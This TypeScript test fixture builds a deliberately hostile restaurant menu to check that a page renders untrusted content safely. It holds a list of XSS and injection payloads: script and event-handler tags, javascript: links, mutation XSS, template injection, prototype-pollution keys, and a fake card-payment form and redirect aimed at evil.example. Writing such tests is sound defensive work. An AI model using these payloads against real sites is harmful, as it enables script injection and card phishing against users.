import type { Wire } from '../b2c/handler.ts';

/**
 * Payloads of a careless or compromised editorial system. A page must show them as text or drop them. A payload that runs
 * sets `window.__hostile` (tests check it) or requests /sandbox/hostile-*.
 */
const PAYLOADS = [
  '<script>window.__hostile="script"</script>',
  '<img src=x onerror="window.__hostile=\'img\'">',
  '<svg onload="window.__hostile=\'svg\'"><circle r="9"/></svg>',
  '<svg><script href="/sandbox/hostile-script.js"></script></svg>',
  '<style>*{display:none!important}</style>',
  '<div style="position:fixed;inset:0;background:#fff;z-index:99999">Inserisci la tua carta</div>',
  '<form action="https://evil.example/"><input name="carta"><button>Paga</button></form>',
  '<iframe srcdoc="<script>parent.__hostile=\'iframe\'</script>"></iframe>',
  '<a href="javascript:window.__hostile=\'link\'">Menu</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__hostile=\'mxss\'">',
  '<details open ontoggle="window.__hostile=\'toggle\'"><summary>Apri</summary></details>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '"><img src=x onerror=window.__hostile="attribute">',
  '</textarea></title></script><img src=x onerror="window.__hostile=\'closing\'">',
  '{{constructor.constructor("window.__hostile=1")()}}${window.__hostile=1}',
  '\u202Eenoizurtsid\u202C \u0000 \uFFFD \u200B',
] as const;

const LONG_WORD = 'Supercalifragilistichespiralidoso'.repeat(12);

export const HOSTILE_MENU: Wire<'getMenu'> = {
  title: `Menu ${PAYLOADS[0]}${PAYLOADS[1]} ${LONG_WORD}`,
  categories: [
    { id: 'ostile-1', label: `Primi ${PAYLOADS[1]}`, displayOrder: 1 },
    { id: 'ostile-2', label: LONG_WORD, displayOrder: 2 },
    { id: '__proto__', label: `${PAYLOADS[4]}Altro`, displayOrder: 3 },
  ],
  items: PAYLOADS.map((payload, index) => ({
    id: index === 0 ? 'constructor' : `ostile-voce-${index}`,
    categoryId: ['ostile-1', 'ostile-2', '__proto__'][index % 3] as string,
    label: index % 5 === 4 ? LONG_WORD : `Piatto ${index + 1} ${payload}`,
    image: index % 4 === 0 ? 'javascript:window.__hostile="image"' : index % 4 === 1 ? 'x" onerror="window.__hostile=\'src\'' : null,
    displayOrder: index + 1,
    menuDisplayType: index % 6 === 5 ? 'SMALL' : 'BIG',
    diet: index % 2 === 0 ? `Vegano ${payload}` : null,
    allergensString: `Glutine ${payload} ${index % 3 === 0 ? LONG_WORD : ''}`,
    ingredients: `Farina, ${payload}, ${LONG_WORD}`,
  })),
};
